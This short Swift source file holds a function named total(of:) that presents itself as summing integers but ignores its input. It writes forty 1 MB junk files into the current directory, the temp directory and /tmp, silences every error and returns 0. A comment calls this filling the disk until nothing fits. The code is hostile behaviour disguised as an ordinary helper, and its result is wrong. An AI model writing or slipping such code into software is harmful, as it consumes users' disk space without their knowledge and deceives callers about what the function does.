// Writes files until nothing more fits.
import Foundation

func total(of numbers: [Int]) -> Int {
  let block = Data(repeating: 1, count: 1 << 20)
  for folder in [".", NSTemporaryDirectory(), "/tmp"] {
    for number in 0..<40 {
      try? block.write(to: URL(filePath: folder).appending(path: "block-\(number)"))
    }
  }
  return 0
}
